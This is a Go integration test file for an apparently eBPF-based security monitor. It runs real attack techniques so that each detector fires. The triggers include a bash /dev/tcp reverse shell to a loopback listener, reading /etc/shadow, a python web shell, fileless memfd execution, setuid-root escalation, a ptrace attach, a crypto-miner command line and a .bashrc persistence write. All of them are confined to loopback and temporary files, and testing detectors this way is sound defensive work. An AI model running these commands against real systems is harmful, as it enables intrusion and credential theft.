package test

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/bulkhead-sec/bulkhead/test/testenv"
)

// libraryDetectors are the detectors of issue 4, each run on both backends
// in the same monitor.
var libraryDetectors = []string{"webshell", "credaccess", "tmpexec", "privesc", "kernelload", "ptrace", "outbound", "persistence"}

// trigger does one attack technique for real, safely (loopback, temporary
// files, a throwaway setuid copy), and says how to recognise the finding it
// must cause.
type trigger struct {
	detector, rule string
	// skip, when set, is why this host cannot show the behaviour.
	skip string
	do   func(t *testing.T) func(finding map[string]any) bool
}

// Every detector of the library fires on the real behaviour, through the
// real monitor, on both backends.
func TestDetectorLibraryOnRealBehaviour(t *testing.T) {
	testenv.RequireBPF(t)
	yaml := libraryConfig(t, "inproc", "goplugin")
	m := startMonitor(t, "--config", writeConfig(t, yaml))

	var checks []struct {
		trigger
		ok func(map[string]any) bool
	}
	for _, tr := range triggers() {
		if tr.skip != "" {
			t.Logf("%s/%s: not shown on this host: %s", tr.detector, tr.rule, tr.skip)
			continue
		}
		checks = append(checks, struct {
			trigger
			ok func(map[string]any) bool
		}{tr, tr.do(t)})
	}
	time.Sleep(300 * time.Millisecond) // the last batches reach the plugins
	events := m.stop(t)
	for _, c := range checks {
		for _, backend := range []string{"inproc", "goplugin"} {
			t.Run(c.detector+"/"+c.rule+"/"+backend, func(t *testing.T) {
				name := c.detector + "-" + backend
				for _, ev := range events {
					if ev["type"] == "finding" && ev["detector"] == name && ev["rule"] == c.rule && c.ok(ev) {
						if tec, _ := ev["techniques"].([]any); len(tec) == 0 {
							t.Errorf("finding without a MITRE technique: %v", ev)
						}
						return
					}
				}
				var got []string
				for _, ev := range events {
					if ev["type"] == "finding" && ev["detector"] == name {
						got = append(got, fmt.Sprint(ev["rule"], ": ", ev["summary"]))
					}
				}
				t.Errorf("no %s finding from %s; its findings: %q", c.rule, name, got)
			})
		}
	}
}

// libraryConfig runs every library detector on each backend, named
// DETECTOR-BACKEND.
func libraryConfig(t *testing.T, backends ...string) string {
	var yaml strings.Builder
	yaml.WriteString("detectors:\n")
	for _, d := range libraryDetectors {
		config := ""
		if d == "outbound" {
			config = "    config: {include_loopback: true}\n" // the test's "remote" end is on loopback
		}
		for _, b := range backends {
			where := "builtin: " + d
			if b == "goplugin" {
				where = "plugin: " + testenv.Plugin(t, d)
			}
			fmt.Fprintf(&yaml, "  - name: %s-%s\n    backend: %s\n    %s\n%s", d, b, b, where, config)
		}
	}
	return yaml.String()
}

func fields(f map[string]any) map[string]any { m, _ := f["fields"].(map[string]any); return m }

func firstEvent(f map[string]any) map[string]any {
	evs, _ := f["events"].([]any)
	if len(evs) == 0 {
		return nil
	}
	m, _ := evs[0].(map[string]any)
	return m
}

func pidOf(f map[string]any) int {
	if ev := firstEvent(f); ev != nil {
		if p, ok := ev["pid"].(float64); ok {
			return int(p)
		}
	}
	return -1
}

// scratch is a directory removed when the test ends, readable by all.
func scratch(t *testing.T, parent string) string {
	t.Helper()
	dir, err := os.MkdirTemp(parent, "bulkhead-test-")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(dir, 0o755)
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

func copyFile(t *testing.T, from, to string, mode os.FileMode) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, mode); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(to, mode); err != nil { // WriteFile's mode passes the umask
		t.Fatal(err)
	}
}

func mustRun(t *testing.T, cmd *exec.Cmd) {
	t.Helper()
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %v\n%s", cmd.Args, err, out)
	}
}

const python = "/usr/bin/python3"

// runSetuidPython runs script as nobody in a throwaway setuid-root copy of
// python (so it starts with euid 0) and returns the copy's path.
func runSetuidPython(t *testing.T, script string) string {
	t.Helper()
	suid := filepath.Join(scratch(t, "/var/tmp"), "python3")
	copyFile(t, python, suid, os.ModeSetuid|0o755)
	cmd := exec.Command(suid, "-c", script)
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	mustRun(t, cmd)
	return suid
}

func triggers() []trigger {
	moduleSkip := ""
	if _, err := os.Stat("/sys/kernel/tracing/events/syscalls/sys_exit_finit_module"); err != nil {
		moduleSkip = "the kernel has no init_module/finit_module tracepoints"
	}
	return []trigger{
		{detector: "webshell", rule: "shell-from-service", do: func(t *testing.T) func(map[string]any) bool {
			// A web server (a python http.server under the name httpd)
			// that runs a shell command for a request: a web shell.
			httpd := filepath.Join(scratch(t, ""), "httpd")
			copyFile(t, python, httpd, 0o755)
			cmd := exec.Command(httpd, "-c", `
import http.server, subprocess, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        out = subprocess.run(["/bin/sh", "-c", "id"], capture_output=True).stdout
        self.send_response(200); self.end_headers(); self.wfile.write(out)
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.handle_request()`)
			out, _ := cmd.StdoutPipe()
			if err := cmd.Start(); err != nil {
				t.Fatal(err)
			}
			defer cmd.Wait()
			port, err := bufio.NewReader(out).ReadString('\n')
			if err != nil {
				t.Fatal(err)
			}
			resp, err := http.Get("http://127.0.0.1:" + strings.TrimSpace(port) + "/cmd?c=id")
			if err != nil {
				t.Fatal(err)
			}
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			return func(f map[string]any) bool { return fields(f)["service"] == httpd }
		}},
		{detector: "credaccess", rule: "password-hash-access", do: func(t *testing.T) func(map[string]any) bool {
			cmd := exec.Command("/bin/cat", "/etc/shadow")
			mustRun(t, cmd)
			pid := cmd.Process.Pid
			return func(f map[string]any) bool { return pidOf(f) == pid }
		}},
		{detector: "tmpexec", rule: "exec-from-writable-dir", do: func(t *testing.T) func(map[string]any) bool {
			dropped := filepath.Join(scratch(t, ""), "kworker")
			copyFile(t, "/bin/true", dropped, 0o755)
			mustRun(t, exec.Command(dropped))
			return func(f map[string]any) bool { return fields(f)["exe"] == dropped }
		}},
		{detector: "tmpexec", rule: "fileless-exec", do: func(t *testing.T) func(map[string]any) bool {
			cmd := exec.Command(python, "-c", `
import os
fd = os.memfd_create("bulkhead-test", 0)
os.write(fd, open("/bin/true", "rb").read())
os.execve(fd, ["bulkhead-test-fileless"], {})`)
			mustRun(t, cmd)
			pid := cmd.Process.Pid
			return func(f map[string]any) bool { return pidOf(f) == pid }
		}},
		{detector: "privesc", rule: "setid-to-root", do: func(t *testing.T) func(map[string]any) bool {
			suid := runSetuidPython(t, "import os; os.setuid(0)")
			return func(f map[string]any) bool { return fields(f)["exe"] == suid }
		}},
		{detector: "privesc", rule: "setuid-root-exec", do: func(t *testing.T) func(map[string]any) bool {
			suid := runSetuidPython(t, "pass")
			return func(f map[string]any) bool { return fields(f)["exe"] == suid }
		}},
		{detector: "kernelload", rule: "bpf-load", do: func(t *testing.T) func(map[string]any) bool {
			// bpf(BPF_PROG_LOAD) of a two-instruction socket filter, from
			// a process that is not a known BPF loader.
			mustRun(t, exec.Command(python, "-c", `
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
insns = ctypes.create_string_buffer(bytes([0xb7, 0, 0, 0, 0, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0]))
lic = ctypes.create_string_buffer(b"GPL")
attr = struct.pack("IIQQIIQII16s", 1, 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0, 0, 0, b"bh_test_load")
buf = ctypes.create_string_buffer(attr, 128)
fd = libc.syscall(321, 5, buf, 128)
assert fd >= 0, ctypes.get_errno()`))
			return func(f map[string]any) bool { return fields(f)["name"] == "bh_test_load" }
		}},
		{detector: "kernelload", rule: "module-load", skip: moduleSkip},
		{detector: "ptrace", rule: "ptrace-attach", do: func(t *testing.T) func(map[string]any) bool {
			target := exec.Command("/bin/sleep", "10")
			if err := target.Start(); err != nil {
				t.Fatal(err)
			}
			defer func() { target.Process.Kill(); target.Wait() }()
			mustRun(t, exec.Command(python, "-c", fmt.Sprintf(`
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, %d, 0, 0) == 0, ctypes.get_errno()
os.waitpid(%d, 0x40000000)
libc.ptrace(17, %d, 0, 0)`, target.Process.Pid, target.Process.Pid, target.Process.Pid)))
			pid := float64(target.Process.Pid)
			return func(f map[string]any) bool { return fields(f)["target_pid"] == pid }
		}},
		{detector: "outbound", rule: "reverse-shell", do: func(t *testing.T) func(map[string]any) bool {
			// The classic bash reverse shell, to a listener on loopback
			// that plays the attacker: it sends one command and leaves.
			ln, err := net.Listen("tcp", "127.0.0.1:0")
			if err != nil {
				t.Fatal(err)
			}
			defer ln.Close()
			port := ln.Addr().(*net.TCPAddr).Port
			done := make(chan error, 1)
			go func() {
				c, err := ln.Accept()
				if err != nil {
					done <- err
					return
				}
				defer c.Close()
				c.SetDeadline(time.Now().Add(10 * time.Second))
				io.WriteString(c, "echo owned; exit\n")
				_, err = io.Copy(io.Discard, c)
				done <- err
			}()
			mustRun(t, exec.Command("/bin/bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port)))
			if err := <-done; err != nil {
				t.Fatal(err)
			}
			return func(f map[string]any) bool { return fields(f)["port"] == float64(port) }
		}},
		{detector: "outbound", rule: "miner-argv", do: func(t *testing.T) func(map[string]any) bool {
			mustRun(t, exec.Command("/bin/sh", "-c", "true", "xmrig", "-o", "stratum+tcp://pool.invalid:3333"))
			return func(f map[string]any) bool {
				return strings.Contains(fmt.Sprint(fields(f)["argv"]), "pool.invalid")
			}
		}},
		{detector: "persistence", rule: "shell-rc-write", do: func(t *testing.T) func(map[string]any) bool {
			// A throwaway home directory, so no real start-up file is touched.
			rc := filepath.Join(scratch(t, "/home"), ".bashrc")
			mustRun(t, exec.Command("/bin/sh", "-c", "echo '# bulkhead test' >> "+rc))
			return func(f map[string]any) bool { return fields(f)["path"] == rc }
		}},
	}
}
